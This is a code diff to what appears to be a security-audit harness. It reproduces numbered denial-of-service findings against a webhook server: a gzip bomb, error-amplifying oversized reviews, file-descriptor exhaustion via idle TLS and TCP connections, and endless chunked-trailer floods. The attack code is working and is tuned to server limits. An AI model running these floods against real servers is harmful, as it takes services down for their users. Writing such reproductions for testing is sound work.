@@ -68,11 +68,18 @@ def gzip_bomb(inflated_mib: int = 250) -> bytes:
 
 
 def invalid_name_review(size: int) -> bytes:
-    """A review whose Foo's deployment name is ``size`` bytes of a value no DNS label allows:
-    every field error about it repeats it."""
+    """A review of ``size`` bytes whose Foo's deployment name, nearly all of it, is a value no DNS
+    label allows: every field error about it repeats it."""
     foo = new_foo()
-    foo["spec"]["deployment"]["name"] = "Bad_Name." * (size // 9)
+    rest = len(orjson.dumps(create_review(foo)))
+    foo["spec"]["deployment"]["name"] = "Bad_Name." * ((size - rest) // 9)
     return orjson.dumps(create_review(foo))
+
+
+def prepare() -> None:
+    """Make the bodies that take seconds, once, before the attack processes fork."""
+    gzip_bomb()
+    deep_bodies()
 
 
 DEEP = "__deep__"
@@ -114,7 +121,7 @@ def deep_bodies() -> tuple[tuple[str, bytes], ...]:
 
 async def gzip_bodies(target: Target, tally: Tally, stop: asyncio.Event) -> None:
     """Finding 1: a gzip body inflated before the budget is charged (2 clients, one per worker)."""
-    bomb = await asyncio.to_thread(gzip_bomb)
+    bomb = gzip_bomb()
     request = post("/convert", bomb, target, extra="Content-Encoding: gzip\r\n")
 
     async def one(_: int) -> None:
@@ -151,7 +158,7 @@ async def unread_answers(target: Target, tally: Tally, stop: asyncio.Event) -> N
 
 async def amplified_answers(target: Target, tally: Tally, stop: asyncio.Event) -> None:
     """Finding 4: an 8 MiB review whose every field error repeats the value; the answer's size noted."""
-    body = invalid_name_review(8 * MiB)
+    body = invalid_name_review(8 * MiB - 1024)  # the admission body limit is 8 MiB
     request = post("/validate-foo", body, target)
 
     async def one(_: int) -> None:
@@ -196,8 +203,10 @@ async def waiting_bodies(target: Target, tally: Tally, stop: asyncio.Event, conn
     await many(connections, one)
 
 
-async def idle_connections(target: Target, tally: Tally, stop: asyncio.Event, connections: int = 1100) -> None:
-    """Finding 6: idle TLS connections and bare TCP connects, as many as the server takes."""
+async def idle_connections(
+    target: Target, tally: Tally, stop: asyncio.Event, tls_connections: int = 300, tcp_connections: int = 2400
+) -> None:
+    """Finding 6: idle TLS connections and bare TCP connects: more than two workers' 1,024 fds."""
 
     async def tls(_: int) -> None:
         async def round_() -> None:
@@ -207,12 +216,10 @@ async def idle_connections(target: Target, tally: Tally, stop: asyncio.Event, co
                 tally.answers[f"tls connect {type(err).__name__}"] += 1
                 await hold(stop, 1)
                 return
-            tally.notes["tls held"] += 1
             try:
                 status, _ = await read_answer(reader, 3600)  # until the server closes it, or we stop
                 tally.answers[f"tls idle closed by server ({status})"] += 1
             finally:
-                tally.notes["tls held"] -= 1
                 writer.transport.abort()
 
         await repeat(stop, round_)
@@ -225,6 +232,7 @@ async def idle_connections(target: Target, tally: Tally, stop: asyncio.Event, co
                 tally.answers[f"tcp connect {type(err).__name__}"] += 1
                 await hold(stop, 1)
                 return
+            tally.notes["tcp connected"] += 1
             try:
                 loop = asyncio.get_running_loop()
                 reading = asyncio.ensure_future(loop.sock_recv(sock, 1))
@@ -239,14 +247,14 @@ async def idle_connections(target: Target, tally: Tally, stop: asyncio.Event, co
 
         await repeat(stop, round_)
 
-    await asyncio.gather(many(connections // 2, tls), many(connections - connections // 2, tcp))
+    await asyncio.gather(many(tls_connections, tls), many(tcp_connections, tcp))
 
 
 async def trailer_floods(target: Target, tally: Tally, stop: asyncio.Event) -> None:
     """Finding 7: chunked bodies whose trailer section never ends (8 at once)."""
     field = b"X-Trailer: " + b"t" * 8000 + b"\r\n"
     head = (
-        f"POST /validate-foo HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"
+        f"POST /convert HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"
         "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
     ).encode()
 
